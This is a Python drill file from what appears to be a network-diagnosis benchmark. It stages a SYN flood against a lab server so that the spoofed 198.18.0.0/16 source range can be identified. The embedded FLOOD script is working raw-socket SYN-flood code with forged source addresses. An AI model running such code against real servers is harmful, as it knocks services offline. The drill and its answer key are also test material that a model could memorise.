"""Forged connection requests from a network far away; the server itself is healthy."""

import contextlib
from collections.abc import Iterator

from bench.drills import Drill
from bench.drills._hosts import far_host
from bench.drills._tools import named_python, running, scratch, sh

SERVER = """
import socket
s = socket.create_server(('10.85.0.1', 8443), backlog=64)
while True:
    s.accept()[0].close()
"""
FLOOD = """
import random, socket, struct, time
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton('10.85.0.1')
def sum16(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
while True:
    for _ in range(20):
        source = socket.inet_aton('198.18.%d.%d' % (random.randrange(256), random.randrange(1, 255)))
        port = random.randrange(1024, 65535)
        head = struct.pack('!HHIIBBHHH', port, 8443, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
        pseudo = source + target + struct.pack('!BBH', 0, 6, len(head))
        head = head[:16] + struct.pack('!H', sum16(pseudo + head)) + head[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
        raw.sendto(ip + head, ('10.85.0.1', 0))
    time.sleep(0.03)
"""


@contextlib.contextmanager
def inject() -> Iterator[None]:
    """Some six hundred requests a second, each from another address of 198.18.0.0/16, which leads back there."""
    with far_host("edge", "uplink3", "10.85.0") as there, scratch() as folder:
        sh("ip", "route", "add", "198.18.0.0/16", "via", "10.85.0.2")
        with running(named_python(folder, "portald", SERVER), [*there, *named_python(folder, "noise", FLOOD)]):
            yield


DRILL = Drill("syn_flood", "syn_flood", ("addresses", "198.18."), inject, seconds=45, needs=("ip",))
